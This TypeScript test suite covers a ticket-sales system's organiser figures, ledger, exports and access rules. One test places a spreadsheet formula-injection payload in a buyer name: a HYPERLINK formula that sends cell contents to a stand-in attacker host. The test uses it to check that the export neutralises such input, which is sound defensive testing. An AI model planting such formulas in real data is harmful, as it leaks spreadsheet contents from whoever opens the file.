import type {
  AllotmentDto,
  ConfirmationDto,
  Envelope,
  EventFiguresDto,
  ExportLinkDto,
  LedgerDto,
  OrganiserEventDto,
  OrganiserTakingsDto,
  ProblemDto,
  ReservationDto,
} from '@boxoffice/contracts';
import { toDecimal } from '@boxoffice/contracts/money';
import readXlsxFile from 'read-excel-file/node';
import { newcomer } from '../accounts/people.ts';
import { Workspace } from '../events/workspace.ts';
import { makeMember, memberOf } from '../organisers/organisations.ts';
import { ageHolds, untilExpired } from '../setup/age-holds.ts';
import { expectProblem } from '../setup/expect-problem.ts';
import { addUsers } from '../setup/open-sale.ts';
import { Randomness } from '../setup/randomness.ts';
import { until } from '../setup/until.ts';
import { useSharedApi } from '../setup/use-api.ts';
import { download, exportLink, readCsv, sumOf } from './exported.ts';

const CHARGED = {
  fees: [
    { name: 'Service fee', basisPoints: 500, per: 'ticket' },
    { name: 'Booking fee', amountMinor: 150, per: 'booking' },
  ],
  tax: { name: 'VAT', basisPoints: 700, included: true },
};
/** Accounts of what was taken. */
const ARE_TAKINGS = new Set<string>(['payable', 'fees', 'taxes']);

const total = (numbers: (number | null)[]): number =>
  numbers.reduce<number>((sum, number) => sum + (number ?? NaN), 0);

const NO_LIMITS = { maxTicketsPerBooking: null, maxTicketsPerUser: null };

describe('the organiser’s figures', () => {
  const api = useSharedApi();
  let workspace: Workspace;

  beforeAll(async () => {
    workspace = await Workspace.open(api);
  });

  const address = ({ id }: Pick<OrganiserEventDto, 'id'>): string =>
    `/organisers/${workspace.id}/events/${id}`;

  async function figuresOf(
    event: Pick<OrganiserEventDto, 'id'>,
    by = workspace.manager,
  ): Promise<EventFiguresDto> {
    const answer = await api.get<Envelope<EventFiguresDto>>(`${address(event)}/figures`, by);
    expect(answer.status).toBe(200);
    return answer.body.data;
  }

  /** All events of the organisation together, and one by one, also of single days. */
  async function expectOverview(
    event: Pick<OrganiserEventDto, 'id'>,
    { stock, takingsMinor, takings, days }: EventFiguresDto,
  ): Promise<void> {
    const path = `/organisers/${workspace.id}/takings`;
    const look = async (query: string): Promise<OrganiserTakingsDto> => {
      const answer = await api.get<Envelope<OrganiserTakingsDto>>(path + query, workspace.manager);
      expect(answer.status).toBe(200);
      return answer.body.data;
    };
    const of = ({ events }: OrganiserTakingsDto, id = event.id) =>
      events.find(({ eventId }) => eventId === id);
    const other = await workspace.publish({ ...NO_LIMITS, currency: 'USD' });
    const whole = await look('');
    expect(of(whole)).toMatchObject({
      currency: 'EUR',
      tickets: stock.sold,
      takingsMinor,
      feesMinor: takings?.feesMinor,
      taxMinor: takings?.taxMinor,
    });
    expect(of(whole, other.id)).toMatchObject({ currency: 'USD', tickets: 0, takingsMinor: 0 });
    const inEuros = whole.events.filter(({ currency }) => currency === 'EUR');
    expect(whole.totals).toMatchObject([
      {
        currency: 'EUR',
        tickets: inEuros.reduce((sum, { tickets }) => sum + tickets, 0),
        takingsMinor: inEuros.reduce((sum, one) => sum + one.takingsMinor, 0),
      },
    ]);
    const first = await look('?limit=1');
    const rest = await look(`?after=${first.next ?? ''}`);
    expect(first.events).toHaveLength(1);
    expect([...first.events, ...rest.events]).toEqual(whole.events);
    const [day] = days;
    const ofDay = await look(`?from=${day?.day ?? ''}&to=${day?.day ?? ''}`);
    expect(of(ofDay)).toMatchObject({ tickets: day?.sold, takingsMinor: day?.takingsMinor });
    expect((await look('?to=2026-01-01')).totals).toEqual([]);
    const box = await memberOf(api, workspace, 'box_office');
    expectProblem(await api.get(path, box), 403, 'FORBIDDEN');
    for (const [days, field] of [
      [{ from: '2026-02-30' }, 'from'],
      [{ from: '2026-02-02', to: '2026-02-01' }, 'to'],
    ] as const) {
      const query = new URLSearchParams(days).toString();
      const looked = await api.get<ProblemDto>(`${path}?${query}`, workspace.manager);
      const order = { ...days, format: 'csv' };
      const exported = await api.post<ProblemDto>(`${path}/exports`, order, workspace.manager);
      for (const wrong of [looked, exported]) {
        expect(expectProblem(wrong, 422, 'VALIDATION_FAILED').errors).toMatchObject([{ field }]);
      }
    }

    // The same as a file, of all days and of one.
    const fileOf = async (order: object) => {
      const body = { format: 'csv', language: 'en', ...order };
      const link = await api.post<Envelope<ExportLinkDto>>(
        `${path}/exports`,
        body,
        workspace.manager,
      );
      const file = await fetch(`${api.process.url}${link.body.data.url}`);
      return { rows: readCsv(Buffer.from(await file.arrayBuffer())), headers: file.headers };
    };
    expectProblem(await api.post(`${path}/exports`, { format: 'csv' }, box), 403, 'FORBIDDEN');
    for (const [order, { events }] of [
      [{}, whole],
      [{ from: day?.day, to: day?.day }, ofDay],
    ] as const) {
      const { rows, headers } = await fileOf(order);
      expect(headers.get('content-disposition')).toContain('Takings by event');
      expect(
        rows.map(({ Event, Tickets, Takings, Tax, Currency }) => [
          Event,
          Tickets,
          Takings,
          Tax,
          Currency,
        ]),
      ).toEqual(
        events.map((one) => [
          one.name,
          String(one.tickets),
          toDecimal(one.takingsMinor, one.currency),
          toDecimal(one.taxMinor, one.currency),
          one.currency,
        ]),
      );
    }
  }

  /** The ledger, whose sums are the takings, page by page and as a file. */
  async function expectLedger(
    event: Pick<OrganiserEventDto, 'id'>,
    { takingsMinor, takings, days }: EventFiguresDto,
  ): Promise<void> {
    const path = `/organisers/${workspace.id}/ledger`;
    const look = async (filter: Record<string, string>): Promise<LedgerDto> => {
      const query = new URLSearchParams({ eventId: event.id, ...filter }).toString();
      const answer = await api.get<Envelope<LedgerDto>>(`${path}?${query}`, workspace.manager);
      expect(answer.status).toBe(200);
      return answer.body.data;
    };
    const pagesOf = async (filter: Record<string, string>, limit: number) => {
      const pages = [await look({ ...filter, limit: String(limit) })];
      for (let next = pages[0]?.next; next; next = pages.at(-1)?.next) {
        pages.push(await look({ ...filter, limit: String(limit), after: next }));
      }
      expect(pages.slice(1).flatMap(({ balances }) => balances)).toEqual([]);
      return pages.flatMap(({ transfers }) => transfers);
    };
    const owed = ({ balances }: LedgerDto) =>
      0 - total(balances.map((one) => (ARE_TAKINGS.has(one.account) ? one.amountMinor : 0)));
    const whole = await look({});
    expect(owed(whole)).toBe(takingsMinor);
    expect(total(whole.balances.map(({ amountMinor }) => amountMinor))).toBe(0);
    expect(whole.balances.find(({ account }) => account === 'fees')?.amountMinor).toBe(
      0 - (takings?.feesMinor ?? 0),
    );
    const transfers = await pagesOf({}, 7);
    expect(transfers).toEqual(await pagesOf({}, 100));
    const ids = transfers.map(({ id }) => Number(id));
    expect(ids).toEqual([...new Set(ids)].sort((a, b) => b - a));
    const entries = transfers.flatMap((transfer) => transfer.entries);
    for (const { account, provider, amountMinor } of whole.balances) {
      const own = entries.filter((one) => one.account === account && one.provider === provider);
      expect(total(own.map((one) => one.amountMinor))).toBe(amountMinor);
    }
    for (const { day, takingsMinor: ofDay } of days) {
      const range = { from: day, to: day };
      expect(owed(await look(range))).toBe(ofDay);
      const ofTransfers = (await pagesOf(range, 100)).flatMap((transfer) => transfer.entries);
      const parts = ofTransfers.filter(({ account }) => ARE_TAKINGS.has(account));
      expect(0 - total(parts.map(({ amountMinor }) => amountMinor))).toBe(ofDay);
    }
    expect((await look({ kind: 'dispute_won' })).transfers).toEqual([]);
    const [day] = days;
    const filters: Record<string, string>[] = [
      {},
      { kind: 'capture', from: day?.day ?? '', to: day?.day ?? '' },
    ];
    for (const narrow of filters) {
      const order = { eventId: event.id, format: 'csv', language: 'en', ...narrow };
      const link = await api.post<Envelope<ExportLinkDto>>(
        `${path}/exports`,
        order,
        workspace.manager,
      );
      const file = await fetch(`${api.process.url}${link.body.data.url}`);
      const rows = readCsv(Buffer.from(await file.arrayBuffer()));
      expect(
        rows.map((row) => [
          row.Number,
          row.Debit === '' ? `-${row.Credit ?? ''}` : row.Debit,
          row.Currency,
        ]),
      ).toEqual(
        (await pagesOf(narrow, 100)).flatMap(({ id, currency, entries: moved }) =>
          moved.map(({ amountMinor }) => [id, toDecimal(amountMinor, currency), currency]),
        ),
      );
    }
    const box = await memberOf(api, workspace, 'box_office');
    expectProblem(await api.get(path, box), 403, 'FORBIDDEN');
    expectProblem(await api.post(`${path}/exports`, { format: 'csv' }, box), 403, 'FORBIDDEN');
    const elsewhere = await (await Workspace.open(api)).publish();
    const asked = `${path}?eventId=${elsewhere.id}`;
    expectProblem(await api.get(asked, workspace.manager), 404, 'EVENT_NOT_FOUND');
    for (const [filter, field] of [
      [{ kind: 'gift' }, 'kind'],
      [{ from: '2026-02-02', to: '2026-02-01' }, 'to'],
    ] as const) {
      const query = new URLSearchParams(filter).toString();
      const looked = await api.get<ProblemDto>(`${path}?${query}`, workspace.manager);
      const order = { ...filter, format: 'csv' };
      const exported = await api.post<ProblemDto>(`${path}/exports`, order, workspace.manager);
      for (const wrong of [looked, exported]) {
        expect(expectProblem(wrong, 422, 'VALIDATION_FAILED').errors).toMatchObject([{ field }]);
      }
    }
  }

  /** What the rows say, without the ledgers. */
  const countedOf = (eventId: string): Promise<unknown> =>
    api.sql.row(
      `SELECT (SELECT jsonb_object_agg(status, count) FROM (
           SELECT status, count(*) FROM tickets WHERE event_id = $1 GROUP BY status) AS stock) AS stock,
         sum(total_minor)::integer AS "takingsMinor",
         sum(cardinality(ticket_ids))::integer AS sold
       FROM bookings WHERE event_id = $1 AND status = 'confirmed'`,
      [eventId],
    );

  /** Sells to many, some of whom pay, cancel, fail to pay or let their time pass; then as if it had been on many days. */
  async function sellAtRandom(event: OrganiserEventDto): Promise<void> {
    const random = new Randomness(14);
    const buyers = await addUsers(api.sql, 20);
    const [nave, aisle, gallery] = event.tiers;
    const [adult, student] = nave?.ticketTypes ?? [];
    const offers = [
      { tierId: nave?.id, ticketTypeId: adult?.id },
      { tierId: nave?.id, ticketTypeId: student?.id },
      { tierId: aisle?.id },
      { tierId: gallery?.id },
    ];
    const aged: string[] = [];
    for (let round = 0; round < 150; round += 1) {
      const userId = buyers[random.below(buyers.length)];
      const tickets = random
        .shuffled(offers)
        .slice(0, 1 + random.below(2))
        .map((offer) => ({ ...offer, quantity: 1 + random.below(3) }));
      const asked = { userId, eventId: event.id, tickets };
      const { status, body } = await api.post<Envelope<ReservationDto>>('/booking/reserve', asked);
      if (status !== 200) {
        expect(status).toBe(409);
        continue;
      }
      const { bookingId, reservedTickets } = body.data;
      const chance = random.below(10);
      if (chance < 6) {
        const payment = {
          userId,
          bookingId,
          ticketIds: reservedTickets.map(({ id }) => id),
          ...(chance === 5 && { paymentSimulation: 'fail' }),
        };
        const paid = await api.post<Envelope<ConfirmationDto>>('/booking/confirm', payment);
        expect(paid.status).toBe(200);
      } else if (chance < 8) {
        expect((await api.post(`/booking/${bookingId}/cancel`, { userId })).status).toBe(200);
      } else if (chance === 8) {
        await ageHolds(api.sql, [bookingId]);
        aged.push(bookingId);
      }
    }
    for (const bookingId of aged) await untilExpired(api.sql, bookingId);
    await api.sql.execute(
      `UPDATE bookings SET confirmed_at = confirmed_at - id % 9 * interval '7 hours 10 minutes'
       WHERE event_id = $1 AND status = 'confirmed'`,
      [event.id],
    );
    // The ledger, which nobody may change, as if it had been posted then.
    for (const statement of [
      `UPDATE ledger_transfers AS transfer SET posted_at = booking.confirmed_at FROM bookings AS booking
       WHERE transfer.event_id = $1 AND booking.event_id = $1 AND booking.id = transfer.booking_id`,
      'DELETE FROM ledger_changes WHERE event_id = $1',
      'DELETE FROM ledger_levels WHERE event_id = $1',
      `INSERT INTO ledger_changes (event_id, posted_at, account_id, captured_minor, followed_minor)
       SELECT entry.event_id, date_bin('15 minutes', posted_at, '2000-01-01Z'), account_id, sum(amount_minor), 0
       FROM ledger_entries AS entry
       JOIN ledger_transfers AS transfer USING (event_id)
       WHERE entry.event_id = $1 AND transfer.id = entry.transfer_id GROUP BY 1, 2, 3`,
    ]) {
      await api.sql.execute(statement, [event.id]);
    }
  }

  /** Money goes back to a buyer, and no ticket with it. */
  async function giveBack(event: OrganiserEventDto, amountMinor: number): Promise<void> {
    await api.sql.execute(
      `WITH refund AS (
         INSERT INTO ledger_transfers (event_id, kind, source_id, organiser_id, currency, booking_id,
           payment_id, provider)
         SELECT event_id, 'refund_begun', 1, organiser_id, currency, booking_id, payment_id, provider
         FROM ledger_transfers WHERE event_id = $1 AND kind = 'capture' ORDER BY id LIMIT 1
         RETURNING event_id, id, organiser_id, currency
       )
       INSERT INTO ledger_entries (event_id, transfer_id, account_id, amount_minor)
       SELECT event_id, refund.id, ledger_account(organiser_id, currency, part.kind, ''), part.amount
       FROM refund, (VALUES ('payable', $2::bigint), ('refunds', -$2::bigint)) AS part (kind, amount)`,
      [event.id, amountMinor],
    );
  }

  /** Three for cash and one by card, and two from an allotment for the press. */
  async function sellAtCounter(event: OrganiserEventDto): Promise<void> {
    const [nave] = event.tiers;
    const ofNave = { tierId: nave?.id, ticketTypeId: nave?.ticketTypes[0]?.id };
    const aside = { tierId: nave?.id, name: 'Press', purpose: 'press', quantity: 2 };
    const made = await api.post<Envelope<AllotmentDto>>(
      `${address(event)}/allotments`,
      aside,
      workspace.manager,
    );
    expect(made.status).toBe(201);
    const press = { ...ofNave, allotmentId: made.body.data.id, quantity: 2 };
    const sales = [
      { lines: [{ ...ofNave, quantity: 3 }], method: 'cash' },
      { lines: [{ ...ofNave, quantity: 1 }], method: 'card', buyerName: 'Ada Lovelace' },
      { lines: [press], method: 'complimentary', reason: 'Lübecker Nachrichten' },
    ];
    for (const sale of sales) {
      const { status } = await api.post(`${address(event)}/counter-sales`, sale, workspace.manager);
      expect(status).toBe(201);
    }
  }

  it('are those of the rows and of every export, after whatever happened', async () => {
    const event = await workspace.publish({ ...NO_LIMITS, ...CHARGED });
    await sellAtCounter(event);
    await sellAtRandom(event);

    const figures = await figuresOf(event);
    const { stock, takingsMinor, takings: made, tiers, days } = figures;
    expect(await countedOf(event.id)).toEqual({
      stock: { available: stock.available, pending: stock.held, booked: stock.sold },
      takingsMinor,
      sold: stock.sold,
    });
    expect(stock.capacity).toBe(320);
    expect(stock.sold).toBeGreaterThan(50);
    expect(stock.held).toBeGreaterThan(0);
    expect(days.length).toBeGreaterThan(1);
    expect(total(tiers.map((tier) => tier.sold))).toBe(stock.sold);
    expect(total([...tiers.map((tier) => tier.takingsMinor), made?.bookingFeesMinor ?? 0])).toBe(
      takingsMinor,
    );
    expect(made).toMatchObject({ paidMinor: takingsMinor, discountsMinor: 0 });
    await expectOverview(event, figures);
    await expectLedger(event, figures);
    expect(total(days.map((day) => day.sold))).toBe(stock.sold);
    expect(total(days.map((day) => day.takingsMinor))).toBe(takingsMinor);
    for (const tier of tiers) {
      expect(total(tier.ticketTypes.map((type) => type.sold))).toBe(tier.sold);
      expect(total(tier.ticketTypes.map((type) => type.takingsMinor))).toBe(tier.takingsMinor);
    }

    const exported = async (kind: 'bookings' | 'tickets' | 'takings') =>
      readCsv((await download(api, address(event), kind, 'csv', workspace.manager)).bytes);
    const bookings = await exported('bookings');
    const sold = bookings.filter((row) => row.Status === 'Sold');
    const held = bookings.filter((row) => row.Status === 'Held');
    expect(sumOf(sold, 'Tickets')).toBe(stock.sold);
    expect(sumOf(held, 'Tickets')).toBe(stock.held);
    expect(sumOf(sold, 'Amount')).toBe((takingsMinor ?? 0) / 100);
    expect(sumOf(sold, 'Fees')).toBe((made?.feesMinor ?? 0) / 100);
    expect(sumOf(sold, 'Tax')).toBe((made?.taxMinor ?? 0) / 100);
    expect(made?.feesMinor).toBeGreaterThan(made?.bookingFeesMinor ?? 0);
    const charged = sold.filter((row) => row['Paid by'] !== 'Complimentary');
    expect(made?.bookingFeesMinor).toBe(150 * new Set(charged.map((row) => row.Booking)).size);
    // By the clock at the venue, so that the day that stands there is the day of the figures.
    const byDay = Map.groupBy(sold, (row) => row['Paid at']?.slice(0, 10));
    expect(
      Object.fromEntries([...byDay].map(([day, rows]) => [day, sumOf(rows, 'Amount')])),
    ).toEqual(Object.fromEntries(days.map((each) => [each.day, (each.takingsMinor ?? 0) / 100])));
    expect(sold[0]?.['Paid at']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+0[12]:00$/);
    const byTier = Map.groupBy(sold, (row) => row.Tier);
    for (const tier of tiers) {
      expect(sumOf(byTier.get(tier.name) ?? [], 'Amount')).toBe((tier.takingsMinor ?? 0) / 100);
    }

    const tickets = await exported('tickets');
    expect(new Set(tickets.map((row) => row.Ticket)).size).toBe(stock.sold);
    expect(tickets).toHaveLength(stock.sold);

    const takings = await exported('takings');
    expect(sumOf(takings, 'Tickets')).toBe(stock.sold);
    expect(sumOf(takings, 'Fees')).toBe((made?.feesMinor ?? 0) / 100);
    expect(sumOf(takings, 'Tax')).toBe((made?.taxMinor ?? 0) / 100);
    expect(sumOf(takings, 'Takings')).toBe((takingsMinor ?? 0) / 100);
    expect(takings.filter((row) => row['Ticket type'] === 'Student').length).toBeGreaterThan(0);

    // How it was paid, the same in each.
    const byMethod = (rows: typeof sold, column: string): Record<string, number> =>
      Object.fromEntries(
        [...Map.groupBy(rows, (row) => row['Paid by'] ?? '')]
          .map(([method, some]) => [method, sumOf(some, column)] as const)
          .toSorted(([a], [b]) => a.localeCompare(b)),
      );
    const ticketsBy = byMethod(sold, 'Tickets');
    expect(ticketsBy).toEqual({ Card: 1, Cash: 3, Complimentary: 2, Online: stock.sold - 6 });
    expect(byMethod(takings, 'Tickets')).toEqual(ticketsBy);
    const paidBy = byMethod(sold, 'Amount');
    expect(byMethod(takings, 'Takings')).toEqual(paidBy);
    expect(paidBy).toMatchObject({ Complimentary: 0 });
    expect(paidBy.Cash).toBeGreaterThan(3 * 28);
    expect(
      Object.fromEntries(
        [...Map.groupBy(tickets, (row) => row['Paid by'] ?? '')].map(([method, some]) => [
          method,
          some.length,
        ]),
      ),
    ).toEqual(ticketsBy);
    expect(held.every((row) => row['Paid by'] === '')).toBe(true);
    for (const rows of [sold, tickets]) {
      expect(rows.find((row) => row['Paid by'] === 'Complimentary')).toMatchObject({
        Buyer: 'Walk-in, no name',
        Reason: 'Lübecker Nachrichten',
        Allotment: 'Press',
      });
      expect(rows.find((row) => row['Paid by'] === 'Card')).toMatchObject({
        Buyer: 'Ada Lovelace',
        Reason: '',
        Allotment: '',
      });
      // Whole, also where a spreadsheet opens it: 15 digits are all that one keeps of a number.
      expect(rows.every((row) => /^\d{1,4}( \d{4})+$/.test(row.Booking ?? ''))).toBe(true);
    }

    // In German as German spreadsheets read it, down to the names that nobody said.
    const german = await download(api, address(event), 'takings', 'csv', workspace.manager, 'de');
    const [named = '', ...lines] = german.bytes.toString('utf8').trimEnd().split('\r\n');
    expect(named).toContain('"Ticketart";"Zahlungsart";"Tickets";"Einnahmen"');
    const cash = lines.filter((line) => line.includes(';"Bar";'));
    const amountsOf = (line: string): number => Number(line.split(';')[5]?.replace(',', '.'));
    expect(cash.reduce((sum, line) => sum + amountsOf(line), 0)).toBeCloseTo(paidBy.Cash ?? NaN, 6);
    const names = await download(api, address(event), 'tickets', 'csv', workspace.manager, 'de');
    expect(names.bytes.toString('utf8')).toContain(';"Ohne Namen";');
    expect(names.bytes.toString('utf8')).not.toContain('Walk-in');

    // And the same as a workbook, whose cells have types.
    const { bytes, headers } = await download(
      api,
      address(event),
      'bookings',
      'xlsx',
      workspace.manager,
    );
    expect(headers.get('content-type')).toContain('spreadsheetml.sheet');
    const [sheet] = await readXlsxFile(bytes);
    const [headings = [], ...rows] = sheet?.data ?? [];
    const amount = headings.indexOf('Amount');
    const status = headings.indexOf('Status');
    const paid = rows.filter((row) => row[status] === 'Sold');
    expect(rows).toHaveLength(bookings.length);
    const inAll = paid.reduce((sum, row) => sum + Number(row[amount]), 0);
    expect(inAll).toBeCloseTo((takingsMinor ?? 0) / 100, 6);

    // Money is the ledger's, in every sum: what goes back without a ticket is seen in each.
    await giveBack(event, 1_234);
    const after = await figuresOf(event);
    expect(after.takingsMinor).toBe((takingsMinor ?? 0) - 1_234);
    expect(after.takings?.paidMinor).toBe(after.takingsMinor);
    expect(total(after.days.map((day) => day.takingsMinor))).toBe(after.takingsMinor);
    expect(after.tiers).toEqual(tiers);
    await expectOverview(event, after);
    const corrected = await exported('takings');
    expect(Math.round(100 * sumOf(corrected, 'Takings'))).toBe(after.takingsMinor);
    expect(corrected.filter((row) => row.Tier === 'Refunds and corrections')).toMatchObject([
      { Tickets: '0', Takings: '-12.34' },
    ]);
  });

  it('are zero for an event that has sold nothing, and so are its exports', async () => {
    const event = await workspace.create({ name: 'Grüße/„東京“', tiers: [] });
    expect(await figuresOf(event)).toMatchObject({
      stock: { capacity: 0, available: 0, held: 0, sold: 0 },
      takingsMinor: 0,
      tiers: [],
      days: [],
    });
    for (const kind of ['bookings', 'tickets', 'takings', 'codes'] as const) {
      const { bytes, headers } = await download(
        api,
        address(event),
        kind,
        'csv',
        workspace.manager,
      );
      expect(readCsv(bytes)).toEqual([]);
      expect(headers.get('content-disposition')).toMatch(
        /^attachment; filename="Gr..e[^"]*\.csv"; filename\*=UTF-8''Gr%C3%BC%C3%9Fe%20%E2%80%9E%E6%9D%B1/,
      );
      expect(headers.get('cache-control')).toContain('no-store');
      const workbook = await download(api, address(event), kind, 'xlsx', workspace.manager);
      expect((await readXlsxFile(workbook.bytes))[0]?.data).toHaveLength(1);
    }
  });

  it('show takings to managers, counts to the box office, and nothing to the door', async () => {
    const event = await workspace.publish(NO_LIMITS);
    const [buyer] = await addUsers(api.sql, 1);
    const asked = { userId: buyer, eventId: event.id, tickets: [{ tier: 'Aisle', quantity: 2 }] };
    const { body } = await api.post<Envelope<ReservationDto>>('/booking/reserve', asked);
    const ticketIds = body.data.reservedTickets.map(({ id }) => id);
    await api.post('/booking/confirm', { userId: buyer, ticketIds });

    const boxOffice = await memberOf(api, workspace, 'box_office');
    const counts = await figuresOf(event, boxOffice);
    expect(counts.stock).toMatchObject({ sold: 2 });
    expect(counts.days).toEqual([{ day: expect.any(String), sold: 2, takingsMinor: null }]);
    expect(JSON.stringify(counts)).not.toContain('4400');
    expect(JSON.stringify(await figuresOf(event))).toContain('4400');
    const door = await memberOf(api, workspace, 'door');
    expectProblem(await api.get(`${address(event)}/figures`, door), 403, 'FORBIDDEN');

    const asks = (kind: string, by: typeof door) =>
      api.post(`${address(event)}/exports`, { kind, format: 'csv' }, by);
    for (const kind of ['bookings', 'takings', 'codes']) {
      expectProblem(await asks(kind, boxOffice), 403, 'FORBIDDEN');
      expectProblem(await asks(kind, door), 403, 'FORBIDDEN');
    }
    expectProblem(await asks('tickets', door), 403, 'FORBIDDEN');
    const tickets = await download(api, address(event), 'tickets', 'csv', boxOffice);
    expect(readCsv(tickets.bytes)).toHaveLength(2);
  });

  it('are downloaded once by a link, by a member who still is one, and it is audited', async () => {
    const event = await workspace.publish(NO_LIMITS);
    const member = await memberOf(api, workspace, 'manager');
    const link = await exportLink(api, address(event), 'takings', 'xlsx', member);
    expect((await fetch(link)).status).toBe(200);
    const again = await fetch(link);
    expect(again.status).toBe(410);
    expect(await again.json()).toMatchObject({ code: 'TOKEN_INVALID' });
    expect(
      await api.sql.rows(
        `SELECT action, actor_id, after FROM audit_entries
         WHERE event_id = $1 AND action = 'event.exported'`,
        [event.id],
      ),
    ).toEqual([
      { action: 'event.exported', actor_id: member.id, after: { kind: 'takings', format: 'xlsx' } },
    ]);

    const late = await exportLink(api, address(event), 'takings', 'csv', member);
    await api.sql.execute(`UPDATE export_links SET expires_at = now() WHERE event_id = $1`, [
      event.id,
    ]);
    expect((await fetch(late)).status).toBe(410);

    const former = await exportLink(api, address(event), 'takings', 'csv', member);
    await api.sql.execute('DELETE FROM organiser_members WHERE user_id = $1', [member.id]);
    const refused = await fetch(former);
    expect(refused.status).toBe(404);
    expect(await refused.json()).toMatchObject({ code: 'ORGANISER_NOT_FOUND' });
    // Their token is as good as it was; what it may do is asked each time.
    expectProblem(await api.get(`${address(event)}/figures`, member), 404, 'ORGANISER_NOT_FOUND');
  });

  it.each([
    [{ kind: 'everything', format: 'csv' }, 'kind'],
    [{ kind: 'bookings', format: 'pdf' }, 'format'],
    [{ kind: 'bookings' }, 'format'],
    [{ format: 'csv' }, 'kind'],
    [{ kind: ['bookings'], format: 'csv' }, 'kind'],
    [{ kind: 'bookings', format: 'csv', language: 'fr' }, 'language'],
  ])('are not exported as %j', async (body, field) => {
    const event = await workspace.create();
    const answer = await api.post(`${address(event)}/exports`, body, workspace.manager);
    const problem = expectProblem(answer, 422, 'VALIDATION_FAILED');
    expect(problem).toMatchObject({ errors: [{ field }] });
  });

  it.each(['', '?token=', '?token=a&token=b', '?token=%00', '?token=no-such-token'])(
    'are not downloaded by %j',
    async (query) => {
      const answer = await fetch(api.at(`/exports${query}`));
      expect([410, 422]).toContain(answer.status);
    },
  );

  it('carry nothing out that a buyer is called', async () => {
    const event = await workspace.publish(NO_LIMITS);
    const buyer = await newcomer(api);
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Click, please")';
    await api.sql.execute('UPDATE users SET name = $1 WHERE id = $2', [name, buyer.id]);
    const asked = { eventId: event.id, tickets: [{ tier: 'Aisle', quantity: 1 }] };
    expect((await api.post('/booking/reserve', asked, buyer)).status).toBe(200);
    const csv = await download(api, address(event), 'bookings', 'csv', workspace.manager);
    expect(readCsv(csv.bytes)).toMatchObject([{ Buyer: `'${name}`, Email: buyer.email }]);
    const xlsx = await download(api, address(event), 'bookings', 'xlsx', workspace.manager);
    const [sheet] = await readXlsxFile(xlsx.bytes);
    expect(sheet?.data[1]).toContain(name);
  });

  it('stop where nobody reads on, and are refused where too many are under way', async () => {
    const event = await workspace.publish(NO_LIMITS);
    const manager = workspace.manager;
    // More than fits between the database and somebody who doesn't read.
    const [buyer] = await addUsers(api.sql, 1);
    await api.sql.execute(
      `WITH tier AS (
         INSERT INTO tiers (event_id, id, name, price_minor, position)
         VALUES ($1, $1, 'T', 1, 9)
       ), booked AS (
         INSERT INTO bookings (event_id, id, user_id, ticket_ids, lines, total_minor, currency,
           hold_expires_at, status, confirmed_at)
         SELECT $1, $1::bigint + number, $2, ARRAY[$1::bigint + number],
           jsonb_build_array(jsonb_build_object('tierId', $1::text, 'tier', 'T', 'ticketType',
             repeat('🎫', 3000), 'quantity', 1, 'priceMinor', 1)), 1, 'EUR', now(), 'confirmed', now()
         FROM generate_series(1, 3000) AS number
       ), paid AS (
         INSERT INTO payments (event_id, id, booking_id, provider, amount_minor,
           currency, status)
         SELECT $1, $1::bigint + number, $1::bigint + number, 'simulated', 1, 'EUR', 'captured'
         FROM generate_series(1, 3000) AS number
       )
       SELECT`,
      [event.id, buyer],
    );
    await api.sql.execute(
      `INSERT INTO tickets (event_id, id, tier_id, status, booking_id, user_id, booked_at)
       SELECT $1, $1::bigint + number, $1, 'booked', $1::bigint + number, $2, now()
       FROM generate_series(1, 3000) AS number`,
      [event.id, buyer],
    );

    const readers = [new AbortController(), new AbortController()];
    const [first, second] = await Promise.all(
      readers.map(async ({ signal }) => {
        const link = await exportLink(api, address(event), 'bookings', 'csv', manager);
        return fetch(link, { signal });
      }),
    );
    expect([first?.status, second?.status]).toEqual([200, 200]);
    const running = async (): Promise<number> => {
      const { count } = await api.sql.row<{ count: number }>(
        `SELECT count(*)::integer AS count FROM pg_stat_activity
         WHERE datname = current_database() AND xact_start IS NOT NULL
           AND query LIKE 'FETCH % FROM exported'`,
      );
      return count;
    };
    await until('both exports are under way', async () => (await running()) === 2);
    const busy = await api.post(
      `${address(event)}/exports`,
      { kind: 'takings', format: 'csv' },
      manager,
    );
    expectProblem(busy, 503, 'BUSY');
    expect(Number(busy.headers['retry-after'])).toBeGreaterThan(0);
    // Nobody who buys or looks notices.
    expect((await figuresOf(event)).stock.sold).toBe(3_000);

    for (const reader of readers) reader.abort();
    await until('both exports have given their connections back', async () => {
      return (await running()) === 0;
    });
    const whole = await download(api, address(event), 'bookings', 'csv', manager);
    expect(readCsv(whole.bytes)).toHaveLength(3_000);
  });

  it('are those of the whole organisation for an admin', async () => {
    const event = await workspace.publish(NO_LIMITS);
    const admin = await newcomer(api, 'admin');
    expect((await figuresOf(event, admin)).takingsMinor).toBe(0);
    await makeMember(api, admin, 'door', workspace.id);
    expect((await figuresOf(event, admin)).takingsMinor).toBe(0);
  });
});
